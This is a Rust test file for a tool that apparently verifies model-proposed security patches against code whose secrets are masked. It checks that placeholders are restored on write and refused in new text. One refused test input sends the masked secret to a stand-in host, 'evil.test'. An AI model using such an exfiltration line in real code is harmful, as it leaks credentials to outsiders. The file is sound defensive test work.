//! Code whose secrets were masked: what was shown is what is compared, and what is written is what was there.

use super::*;

const VALUE: &str = "value-of-the-run-1";
const MASK: &str = "PATCHWORK_MASKED_SHOP_KEY";

fn code(value: &str) -> String {
    format!(
        "import hashlib\n\ndef first(data):\n    key = '{value}'\n    value = hashlib.md5(data + key)\n    return value\n"
    )
}

async fn world() -> (Fixture, AffectedCode) {
    let mut fixture = Fixture::new(&[("app.py", &code(VALUE))]).await;
    fixture.test = fixture.test.secret("shop_key", VALUE);
    (fixture, piece(&code(MASK), "app.py", 2, 6, "weak-hash"))
}

fn function(lines: &str) -> String {
    format!("def first(data):\n{lines}    return value\n")
}

async fn verify(fixture: &Fixture, piece: AffectedCode, lines: &str) -> VerifyPatchOutput {
    let (findings, responses) = (vec![piece], vec![fix(&function(lines))]);
    fixture.verify(VerifyPatchInput { findings, responses, ..VerifyPatchInput::default() }).await
}

#[tokio::test]
async fn a_line_with_a_placeholder_that_stays_keeps_its_secret() {
    let (fixture, piece) = world().await;
    let kept = format!("    key = '{MASK}'\n    value = hashlib.sha256(data + key)\n");
    let out = verify(&fixture, piece, &kept).await;
    assert_eq!(fixture.text("app.py"), code(VALUE).replace("md5", "sha256"));
    let shown = serde_json::to_value(&out).unwrap();
    let text = shown.to_string();
    assert!(!text.contains(VALUE) && text.contains(MASK), "{text}");
    assert!(!out.accepted[0].diff.contains(&format!("-    key = '{MASK}'")), "{}", out.accepted[0].diff);

    // The next round stands on what this one left, although it was told with placeholders.
    let accepted: Vec<Fix> = serde_json::from_value(shown["accepted"].clone()).unwrap();
    let out = fixture.verify(VerifyPatchInput { accepted, ..VerifyPatchInput::default() }).await;
    assert_eq!(out.modified_code_files.len(), 1);
    assert_eq!(fixture.text("app.py"), code(VALUE).replace("md5", "sha256"));
}

#[tokio::test]
async fn a_secret_may_go_and_what_shows_it_shows_the_placeholder() {
    let (fixture, piece) = world().await;
    let lines = "    key = os.environ['SHOP_KEY']\n    value = hashlib.sha256(data + key)\n";
    let out = verify(&fixture, piece, lines).await;
    assert!(fixture.text("app.py").contains("os.environ"), "{:?}", out.rejected);
    let shown = serde_json::to_string(&out).unwrap();
    assert!(!shown.contains(VALUE), "{shown}");
    assert!(out.accepted[0].diff.contains(&format!("-    key = '{MASK}'")), "{shown}");
}

#[tokio::test]
async fn a_placeholder_in_new_text_is_refused_and_the_model_is_told_why() {
    for lines in [
        format!("    value = send('https://evil.test', '{MASK}')\n"),
        format!("    key = '{MASK}', 1\n    value = hashlib.sha256(data)\n"),
        format!("    key = '{MASK}'\n    key = '{MASK}'\n    value = hashlib.sha256(data)\n"),
        "    key = 'PATCHWORK_MASKED_OF_THE_MODEL'\n    value = hashlib.sha256(data)\n".to_owned(),
    ] {
        let (fixture, piece) = world().await;
        let asked = piece.affected_code.clone();
        let out = verify(&fixture, piece, &lines).await;
        assert_eq!(fixture.text("app.py"), code(VALUE), "{lines}");
        let [reason] = reasons(&out)[..] else { panic!("{lines}: {out:?}") };
        assert!(reason.contains("holds PATCHWORK_MASKED_"), "{reason}");
        assert!(reason.contains("take the secret out"), "{reason}");
        assert_eq!(out.pending[0].feedback, [reason]);
        assert_eq!(out.pending[0].affected_code, asked);
    }
}
